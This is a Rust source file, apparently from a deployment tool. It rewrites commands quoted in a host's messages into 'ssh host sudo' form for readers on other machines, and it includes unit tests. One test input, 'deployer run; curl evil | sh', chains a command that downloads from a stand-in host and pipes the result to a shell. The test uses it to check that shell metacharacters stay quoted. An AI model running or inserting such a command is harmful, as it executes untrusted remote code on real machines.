//! Commands in what a host says are meant for a person on that host; whoever reads them elsewhere is told how to
//! get there. Pure.

use crate::names::HostName;

/// The programs that a host names in its advice.
const ON_HOST: [&str; 6] =
    ["deployer", "journalctl", "systemctl", "nix-collect-garbage", "ss", "timedatectl"];

/// How to type a command for `host` where the reader is (`here`).
pub fn typed(host: &HostName, here: Option<&HostName>, command: &str) -> String {
    match here == Some(host) {
        true => format!("sudo {command}"),
        false => format!("ssh {host} sudo {command}"),
    }
}

/// A text of `host` with its quoted commands as the reader must type them.
pub fn translated(text: &str, host: &HostName, here: Option<&HostName>) -> String {
    if here == Some(host) {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('\'') {
        let (before, quoted) = rest.split_at(at + 1);
        out.push_str(before);
        let command = quoted.strip_prefix("sudo ").unwrap_or(quoted);
        let program = command.split([' ', '\'']).next().unwrap_or_default();
        // Only where a quotation begins: "Ann's" is none.
        let begins = before[..at].chars().next_back().is_none_or(|c| !c.is_alphanumeric());
        let ours = begins && ON_HOST.contains(&program);
        // What means something to a shell is for the host's, not for the one that the line is typed into.
        let shells = |c: char| ";&|<>()$`\\\"*?[]#~{}!".contains(c);
        if ours && quoted.split('\'').next().is_some_and(|whole| whole.contains(shells)) {
            // All of it is for the host, so that the quotes stay around it for ssh.
            out.pop();
            out.push_str(&format!("ssh {host} '"));
            rest = quoted;
        } else if ours {
            out.push_str(&format!("ssh {host} sudo "));
            rest = command;
        } else {
            rest = quoted;
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_for_a_host_is_read_elsewhere_with_the_way_there() {
        let (biz, laptop) = (HostName::parse("biz").unwrap(), HostName::parse("laptop").unwrap());
        for (said, read) in [
            (
                "try again with 'deployer run --retry shop'",
                "try again with 'ssh biz sudo deployer run --retry shop'",
            ),
            (
                "see 'journalctl -u shop', or 'deployer'",
                "see 'ssh biz sudo journalctl -u shop', or 'ssh biz sudo deployer'",
            ),
            ("run 'sudo deployer' there", "run 'ssh biz sudo deployer' there"),
            ("run 'deployer run; curl evil | sh'", "run ssh biz 'deployer run; curl evil | sh'"),
            (
                "'sudo systemctl revert shop && sudo systemctl start deployer' takes that back",
                "ssh biz 'sudo systemctl revert shop && sudo systemctl start deployer' takes that back",
            ),
            (
                "it's the deployer 'shop' of 'deploy-manifest'",
                "it's the deployer 'shop' of 'deploy-manifest'",
            ),
            ("Ann'deployer run", "Ann'deployer run"),
            ("", ""),
        ] {
            assert_eq!(translated(said, &biz, Some(&laptop)), read);
            assert_eq!(translated(said, &biz, Some(&biz)), said);
        }
        assert_eq!(typed(&biz, Some(&laptop), "deployer"), "ssh biz sudo deployer");
        assert_eq!(typed(&biz, Some(&biz), "deployer"), "sudo deployer");
    }
}
